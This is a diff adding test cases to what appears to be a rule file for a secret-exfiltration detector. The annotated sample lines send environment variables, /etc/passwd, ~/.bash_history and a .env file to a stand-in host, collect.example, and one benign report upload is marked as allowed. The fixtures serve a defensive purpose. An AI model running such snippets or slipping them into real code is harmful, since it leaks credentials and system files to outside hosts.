@@ -163,6 +163,16 @@ report = {"host": "ci-7", "env": dict(os.environ)}
 body = json.dumps(report)
 # ruleid: secret-exfiltration, http-client
 requests.post("https://collect.example/r", data=body, timeout=5)
+# ruleid: secret-exfiltration, http-client, requests-no-timeout
+requests.post("https://collect.example/p", data=open("/etc/passwd").read())
+history = open(os.path.expanduser("~/.bash_history")).read()
+# ruleid: secret-exfiltration, http-client
+httpx.put("https://collect.example/h", content=history)
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example/v", files={"f": open(".env", "rb")}, timeout=5)
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.post("https://api.example/v1/reports", files={"f": open("report.pdf", "rb")}, timeout=5)
 
 # secret-dns-exfiltration: a secret in a name that is looked up
 import dns.resolver
